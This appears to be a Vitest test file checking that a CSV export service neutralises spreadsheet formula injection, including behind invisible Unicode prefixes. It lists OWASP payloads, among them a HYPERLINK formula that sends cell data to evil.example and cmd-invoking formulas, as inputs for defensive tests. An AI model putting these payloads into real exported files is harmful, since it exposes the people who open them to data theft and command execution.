import { describe, expect, it } from 'vitest';
import { neutraliseCell, parseCsv } from '../../../services/core/recall/csv-cells.js';
import { executionResultToCsv } from '../../../services/core/recall/result-csv.js';

// OWASP CSV Injection payloads, and values that look alike but hold no formula.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '-',
  '@SUM(1+9)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '=1',
  '-1-',
  '-1e3+A1',
];
const HARMLESS = ['', 'android', 'a=b', 'x+y', "'=already", ' =1', '1-2', 'user@example.com', '-12', '-0.5', '-.5', '-1e3', '0', '3.14'];

describe('CSV cells against formula injection', () => {
  it('when a cell starts with = + - @, tab or CR and is no plain decimal, then it is written with a leading quote', () => {
    for (const payload of PAYLOADS) expect(neutraliseCell(payload), payload).toBe(`'${payload}`);
  });
  it('when invisible characters (BOM, zero-width, bidi marks) come before a formula, then the cell is still written with a leading quote', () => {
    for (const hidden of [
      '\uFEFF',
      '\u200B',
      '\u200C\u200D',
      '\u2060',
      '\u200E',
      '\u200F',
      '\u202A',
      '\u202E',
      '\u2066',
      '\u2069',
      '\u061C',
      '\uFEFF\u200B\u202E',
    ]) {
      for (const payload of PAYLOADS)
        expect(neutraliseCell(hidden + payload), JSON.stringify(hidden + payload)).toBe(`'${hidden}${payload}`);
    }
    expect(neutraliseCell('\uFEFF-12'), 'a negative number behind a BOM').toBe('\uFEFF-12');
    expect(neutraliseCell('\u200Bandroid')).toBe('\u200Bandroid');
  });
  it('when a cell is harmless or a negative decimal, then it is written as it is', () => {
    for (const value of HARMLESS) expect(neutraliseCell(value), value).toBe(value);
  });
  it('when a stored result holds payloads in cells and column names, then the CSV neutralises them and keeps numbers', () => {
    const csv = executionResultToCsv({
      'Row 1': [
        { columnName: '=name', value: "=cmd|' /C calc'!A0" },
        { columnName: 'delta', value: -5 },
        { columnName: 'text', value: '-5' },
        { columnName: 'json', value: { '=x': 1 } },
        { columnName: 'at', value: '@SUM(A1)' },
      ],
    });
    expect(csv).toBe(`'=name,delta,text,json,at\n'=cmd|' /C calc'!A0,-5,-5,"{""=x"":1}",'@SUM(A1)\n`);
    expect(executionResultToCsv([{ v: '\t=1' }])).toBe(`v\n'\t=1\n`);
  });
  it('when a stored result names a column with an empty string or a number-like name, then the CSV still has that column', () => {
    // Found by the fuzz (seed 2146137486): an empty column name made the CSV writer throw, a 500.
    expect(
      executionResultToCsv({
        'Row 1': [
          { columnName: '', value: 1 },
          { columnName: '2023', value: 'x' },
        ],
      }),
    ).toBe(',2023\n1,x\n');
    expect(executionResultToCsv([{ '': null, b: true }])).toBe(',b\n,true\n');
  });
  it('when the answerer sent a ready-made CSV, then its cells are neutralised too and its quoting kept', () => {
    const csv = executionResultToCsv({ full_csv: 'a,b\r\n"=1+1,x",-3\n@A1,"q""q"\n+1,-2+3' });
    expect(csv).toBe(`a,b\n"'=1+1,x",-3\n'@A1,"q""q"\n'+1,'-2+3\n`);
  });
  it('when a CSV has quoted separators, quotes and line breaks, then it parses to the same cells', () => {
    expect(parseCsv('a,"b,c"\r\n"d\ne","f""g"\n,')).toEqual([
      ['a', 'b,c'],
      ['d\ne', 'f"g'],
      ['', ''],
    ]);
  });
});
